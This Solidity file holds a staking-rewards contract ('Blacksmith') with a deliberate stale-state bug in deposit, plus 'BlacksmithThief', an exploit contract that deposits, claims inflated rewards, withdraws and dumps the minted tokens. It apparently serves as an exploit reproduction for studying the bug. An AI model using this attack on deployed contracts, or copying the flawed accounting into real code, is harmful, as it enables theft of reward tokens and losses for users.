// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";
import {WETH9} from "../props/WETH9.sol";
import {Zapper} from "../price/LpBank.sol";

/// Gives out a token to who stakes shares of a pool. When somebody stakes it counts with the state from before the update.
contract Blacksmith {
    struct Farm {
        uint256 perToken; // times 10^18
        uint256 updatedAt;
        uint256 staked;
    }

    struct Miner {
        uint256 amount;
        uint256 writeoff;
    }

    Token public immutable cover;
    uint256 public immutable perSecond;
    address public immutable governance = msg.sender;
    mapping(Token => Farm) public farms;
    mapping(Token => mapping(address => Miner)) public miners;

    event Deposit(address indexed miner, address indexed lpToken, uint256 amount);
    event Withdraw(address indexed miner, address indexed lpToken, uint256 amount);
    event Claim(address indexed miner, address indexed lpToken, uint256 amount);

    constructor(Token cover_, uint256 perSecond_) {
        (cover, perSecond) = (cover_, perSecond_);
    }

    function addFarm(Token lp) external {
        require(msg.sender == governance, "not governance");
        farms[lp].updatedAt = block.timestamp;
    }

    function deposit(Token lp, uint256 amount) external {
        Farm memory farm = farms[lp];
        require(farm.updatedAt > 0, "no farm");
        update(lp);
        Miner storage miner = miners[lp][msg.sender];
        claimFor(lp, msg.sender);
        miner.amount += amount;
        miner.writeoff = miner.amount * farm.perToken / 1e18;
        farms[lp].staked += amount;
        lp.transferFrom(msg.sender, address(this), amount);
        emit Deposit(msg.sender, address(lp), amount);
    }

    function withdraw(Token lp, uint256 amount) external {
        update(lp);
        claimFor(lp, msg.sender);
        Miner storage miner = miners[lp][msg.sender];
        miner.amount -= amount;
        miner.writeoff = miner.amount * farms[lp].perToken / 1e18;
        farms[lp].staked -= amount;
        lp.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, address(lp), amount);
    }

    function claimRewards(Token lp) external {
        update(lp);
        claimFor(lp, msg.sender);
        Miner storage miner = miners[lp][msg.sender];
        miner.writeoff = miner.amount * farms[lp].perToken / 1e18;
    }

    function update(Token lp) private {
        Farm storage farm = farms[lp];
        if (farm.staked > 0) farm.perToken += (block.timestamp - farm.updatedAt) * perSecond * 1e18 / farm.staked;
        farm.updatedAt = block.timestamp;
    }

    function claimFor(Token lp, address who) private {
        Miner storage miner = miners[lp][who];
        uint256 earned = miner.amount * farms[lp].perToken / 1e18;
        if (earned <= miner.writeoff) return;
        cover.mint(who, earned - miner.writeoff);
        emit Claim(who, address(lp), earned - miner.writeoff);
    }
}

/// Stakes where next to nothing is staked, and gets what nobody was there to get, many times over.
contract BlacksmithThief is Zapper {
    function strike(Blacksmith smith, Pool lp, Pool market, uint256 sold, address payee) external payable {
        WETH9(payable(address(WETH))).deposit{value: msg.value}();
        uint256 stake = join(lp, msg.value);
        lp.approve(address(smith), stake);
        smith.deposit(lp, stake);
        smith.claimRewards(lp);
        smith.withdraw(lp, stake);
        lp.transfer(payee, stake);
        Token cover = smith.cover();
        cover.approve(address(market), sold);
        market.sell(cover, sold, payee);
    }
}
